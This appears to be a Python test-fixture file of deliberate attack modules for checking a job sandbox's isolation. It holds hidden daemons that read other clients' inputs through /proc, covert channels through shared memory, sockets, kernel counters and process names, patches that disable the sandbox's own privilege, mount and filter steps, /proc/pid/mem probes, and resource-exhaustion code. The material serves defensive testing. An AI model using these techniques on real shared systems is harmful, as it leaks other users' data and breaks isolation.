"""Attacks that a package makes while it is imported: code of a module with `extract`.

Each takes two jobs of two clients, with an input each. `extract` returns what it got hold of:
`{"got": …}`; what stands in `HARMLESS` code is what a wall leaves of it.
"""

READ_OWN = """
def own(job):
    return [path.read_text() for path in job.inputs]
"""

DAEMON = (
    READ_OWN
    + """
import glob, os, sys, time

def watch(seen):
    while True:
        for path in glob.glob("/proc/[0-9]*/root/input/*") + glob.glob("/input/*/input/*"):
            try:
                with open(path) as file:
                    seen.add(file.read())
            except OSError:
                continue
        for folder in glob.glob("/proc/[0-9]*/root/output") + ["/scratch", "/tmp", "/dev/shm"]:
            for text in list(seen):
                try:
                    with open(folder + "/got-" + str(abs(hash(text))), "w") as out:
                        out.write(text)
                except OSError:
                    continue
        time.sleep(0.002)

def found(job):
    time.sleep(0.2)
    got = []
    for folder in (str(job.output_dir), "/scratch", "/tmp", "/dev/shm"):
        for path in glob.glob(folder + "/got-*"):
            with open(path) as file:
                got.append(file.read())
    return got

def extract(*, job, **_):
    return {"own": own(job), "got": found(job)}
"""
)

FORK_TWICE = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        BEFORE
        watch(set())
    os._exit(0)
os.wait()
"""

PASS_ON = (
    READ_OWN
    + """
def extract(*, job, **_):
    mine = own(job)
    got = take()
    leave(mine[0])
    import time
    time.sleep(0.15)
    return {"own": mine, "got": got + (take() if AGAIN else [])}

AGAIN = False
"""
)

DAEMONS = {
    "daemon": DAEMON + FORK_TWICE.replace("BEFORE", "pass"),
    "daemon_out_of_sight": DAEMON
    + "import ctypes\n"
    + FORK_TWICE.replace("BEFORE", "ctypes.CDLL(None).prctl(4, 0)"),
    "daemon_by_another_name": DAEMON
    + FORK_TWICE.replace("BEFORE", "os.closerange(0, 100); os.chdir('/proc/self')"),
    "daemon_of_its_own_program": DAEMON
    + """
import inspect, subprocess
WATCH = "import glob, os, time\\n" + inspect.getsource(watch) + "watch(set())"
subprocess.Popen([sys.executable, "-I", "-S", "-c", WATCH], start_new_session=True)
""",
    "thread": DAEMON
    + "import threading\nthreading.Thread(target=watch, args=(set(),), daemon=True).start()\n",
}

COUNTED = """
import ctypes, socket
ctypes.CDLL(None).unshare(0x50000000)  # outside, away from what the host counts; refused in a cell
def count():
    found = {}
    for table in ("snmp", "netstat"):
        with open("/proc/self/net/" + table) as lines:
            for names, numbers in zip(*[iter(lines.read().splitlines())] * 2):
                kind = names.split(":")[0]
                found.update(zip((kind + name for name in names.split()[1:]), numbers.split()[1:]))
    return int(found.get("%(counter)s", 0))
try: BASE = count()
except OSError: BASE, count = 0, lambda: 0
def leave(text):
    for _ in range(int(text[-1]) + 1):
        try:
            with socket.socket(socket.AF_INET, *%(kind)s) as sock:
                sock.setblocking(False)
                sock.connect(("192.0.2.1", 9))
        except OSError: pass
def take():
    number = count() - BASE - 1
    return ["secret-%%s%%d" %% (name, number) for name in ("", "%(name)s-")] if number >= 0 else []
"""
"""What the kernel counts in a net namespace says how much the run before has sent."""

CHANNELS = {
    "shared_memory": PASS_ON
    + """
import mmap
PLACE = mmap.mmap(-1, 4096)
def leave(text): PLACE[:64] = text.encode().ljust(64, b"\\0")
def take(): return [bytes(PLACE[:64]).rstrip(b"\\0").decode()]
""",
    "memory_made_writable_later": PASS_ON
    + """
import ctypes, mmap
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
PLACE = libc.mmap(None, ctypes.c_size_t(4096), 1, 0x21, -1, ctypes.c_long(0))
def leave(text):
    libc.mprotect(ctypes.c_void_p(PLACE), ctypes.c_size_t(4096), 3)
    ctypes.memmove(PLACE, text.encode(), len(text))
def take(): return [ctypes.string_at(PLACE, 64).rstrip(b"\\0").decode()]
""",
    "signal_of_stdin": PASS_ON
    + """
import fcntl
def leave(text):
    fcntl.fcntl(0, 10, 34 + int(text[-1]))
def take(): return ["secret-signal_of_stdin-%d" % (fcntl.fcntl(0, 11) - 34,)]
""",
    "fifo": PASS_ON
    + """
import os
os.mkfifo("/scratch/fifo") if os.access("/scratch", os.W_OK) else None
def leave(text):
    try: os.write(os.open("/scratch/fifo", os.O_RDWR | os.O_NONBLOCK), text.encode())
    except OSError: pass
def take():
    try: return [os.read(os.open("/scratch/fifo", os.O_RDWR | os.O_NONBLOCK), 64).decode()]
    except OSError: return []
""",
    "memfd": PASS_ON
    + """
import os
PLACE = os.memfd_create("place")
def leave(text): os.pwrite(PLACE, text.encode(), 0)
def take(): return [os.pread(PLACE, 64, 0).decode()]
""",
    "shared_file": PASS_ON
    + """
import os
PLACE = os.open("/tmp/place", os.O_RDWR | os.O_CREAT) if os.access("/tmp", os.W_OK) else -1
def leave(text): os.pwrite(PLACE, text.encode(), 0)
def take(): return [os.pread(PLACE, 64, 0).decode()]
""",
    "pipe": PASS_ON
    + """
import os
READ, WRITE = os.pipe2(os.O_NONBLOCK)
def leave(text): os.write(WRITE, text.encode())
def take():
    try: return [os.read(READ, 64).decode()]
    except BlockingIOError: return []
""",
    "socket_pair": PASS_ON
    + """
import socket
ONE, OTHER = socket.socketpair()
ONE.setblocking(False)
def leave(text): OTHER.send(text.encode())
def take():
    try: return [ONE.recv(64).decode()]
    except BlockingIOError: return []
""",
    "abstract_socket": PASS_ON
    + """
AGAIN = True
import socket
def leave(text):
    with socket.socket(socket.AF_UNIX) as sock:
        try: sock.connect(b"\\0place"); sock.send(text.encode())
        except OSError: pass
def take():
    global LISTENER
    try:
        LISTENER = socket.socket(socket.AF_UNIX)
        LISTENER.bind(b"\\0place"); LISTENER.listen(); LISTENER.settimeout(0.3)
        return [LISTENER.accept()[0].recv(64).decode()]
    except OSError: return []
""",
    "counters_of_packets": PASS_ON
    + COUNTED % {"name": "counters_of_packets", "kind": (2, 0), "counter": "IpOutNoRoutes"},
    "counters_of_mptcp": PASS_ON
    + COUNTED
    % {"name": "counters_of_mptcp", "kind": (1, 262), "counter": "MPTcpExtMPCapableSYNTX"},
    "cookies_of_sockets": PASS_ON
    + """
import os, socket
os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # each processor counts by itself
def cookie():
    with socket.socket(socket.AF_UNIX) as sock:
        return int.from_bytes(sock.getsockopt(1, 57, 8), "little")
try: BASE = cookie()
except OSError: BASE, cookie = 0, lambda: 0
def leave(text):
    for _ in range(100 * (int(text[-1]) + 1)):
        try: cookie()
        except OSError: pass
def take():
    number = (cookie() - BASE) // 100 - 1
    return ["secret-%s%d" % (name, number) for name in ("", "cookies_of_sockets-")] if number >= 0 else []
""",
    "names_of_processes": PASS_ON
    + """
AGAIN = True
import ctypes, glob
libc = ctypes.CDLL(None)
def leave(text): libc.prctl(15, text[-15:].encode())
def take():
    names = []
    for path in glob.glob("/proc/[0-9]*/comm"):
        try: names.append(open(path).read().strip())
        except OSError: pass
    return names
""",
    "files_left_by_the_import": PASS_ON
    + """
import os
PLACES = ["/scratch", "/tmp", "/dev/shm", "/output", "/input", "/dev", "/"]
def leave(text):
    for folder in PLACES:
        try: open(folder + "/place", "w").write(text)
        except OSError: pass
def take():
    got = []
    for folder in PLACES:
        try: got.append(open(folder + "/place").read())
        except OSError: pass
    return got
leave("nothing")
""",
    "system_v_memory": PASS_ON
    + """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
ID = libc.shmget(0x77, 4096, 0o1666)
def place():
    at = libc.shmat(libc.shmget(0x77, 4096, 0o1666), None, 0) or 0
    return at if at > 0 else None
def leave(text):
    at = place()
    if at not in (None, ctypes.c_void_p(-1).value): ctypes.memmove(at, text.encode(), len(text))
def take():
    at = place()
    return [] if at in (None, ctypes.c_void_p(-1).value) else [ctypes.string_at(at, 64).rstrip(b"\\0").decode()]
""",
}

PATCHED = """
import ctypes, os, resource, sys
libc = ctypes.CDLL(None, use_errno=True)
inside = {name.rpartition(".")[2]: module for name, module in sys.modules.items()
          if "_inside." in name}
is_warm = any("_inside.warm." in name for name in sys.modules)
script = inside["fork_script"].ForkScript if is_warm else None
host = getattr(inside.get("fork_script_on_host"), "ForkScript", None)

def nothing(*_, **__):
    pass

def attempt(name, call, *arguments):
    return [name] if call(*arguments) == 0 else []

def extract(*, job, **_):
    scratch = str(job.scratch_dir).encode()
    got = attempt("tmpfs", libc.mount, b"tmpfs", scratch, b"tmpfs", 0, b"size=1g")
    got += attempt("overlay", libc.mount, b"o", scratch, b"overlay", 0,
                   b"lowerdir=/usr,upperdir=/scratch/tmp,workdir=/scratch/shm")
    got += attempt("user namespace", libc.unshare, 0x10000000)
    got += attempt("net namespace", libc.unshare, 0x40000000)
    got += attempt("mount namespace", libc.unshare, 0x00020000)
    with open("/proc/self/status") as status:
        sets = [line.split() for line in status if line.startswith(("CapEff", "CapPrm"))]
    got += [name for name, value in sets if int(value, 16)]
    limits = [resource.getrlimit(getattr(resource, name))[1] for name in
              ("RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_MEMLOCK")]
    return {"got": got, "limits": limits}

if script:
"""

PATCHES = {
    "nothing": "    pass",
    "no_script": "    inside['syscall_batch'].Batch.play = nothing",
    "no_capabilities_dropped": "    script._drop_privileges = nothing",
    "no_mounts": "    script._mount = nothing",
    "no_close": "    script._close_all = nothing",
    "no_limits": (
        "    inside['syscalls'].limit_other = inside['syscalls'].limit = nothing\n"
        "    inside['syscalls'].limits = lambda wanted: []"
    ),
    "no_filter": (
        "    inside['syscalls'].Filter.install = nothing\n    script._shut_landlock = nothing"
    ),
    "no_walls_at_all": (
        "    for name in ('_drop_privileges', '_mount', '_shut_landlock'):\n"
        "        setattr(script, name, nothing)\n"
        "    if host:\n        host._shut = nothing"
    ),
    "unbound_calls": "    inside['syscalls'].call = lambda number, *_: 0",
}

NAMESPACES = """
import ctypes, os
libc = ctypes.CDLL(None)
MADE = sum(libc.unshare(kind) == 0 for kind in (0x10000000, 0x40000000, 0x00020000, 0x20000000)
           for _ in range(100))
MADE += sum(libc.syscall(56 if os.uname().machine == "x86_64" else 220, kind | 17, 0, 0, 0, 0) > 0
            for kind in (0x10000000, 0x50000000))
WATCHES = libc.inotify_init() >= 0

def extract(*, job, **_):
    return {"got": MADE}
"""

NEIGHBOURS = """
import glob, os
GOT = []
for path in glob.glob("/proc/[0-9]*/mem"):
    if path.split("/")[2] in (str(os.getpid()), "self"):
        continue
    try:
        os.close(os.open(path, os.O_RDWR))
        GOT.append(path)
    except OSError:
        continue

def extract(*, job, **_):
    return {"got": GOT}
"""

TAKES = """
import mmap
HELD = bytearray(1500 << 20)
for at in range(0, len(HELD), 4096):
    HELD[at] = 1

def extract(*, job, **_):
    return {"got": len(HELD)}
"""

IN_FLIGHT = """
import array, os, socket, time

def send_away(count):
    sent = 0
    pairs = []
    while sent < count:
        try:
            pairs.append(socket.socketpair())
            pairs[-1][0].setblocking(False)
            for _ in range(50):
                rights = array.array("i", [pairs[-1][1].fileno()] * 20)
                pairs[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                sent += 20
        except OSError:
            break
    return sent, pairs

EARLY = send_away(4000)[0]

def extract(*, job, **_):
    sent, pairs = send_away(4000)
    job.event("sent", count=sent)
    time.sleep(2)
    return {"got": 0}
"""
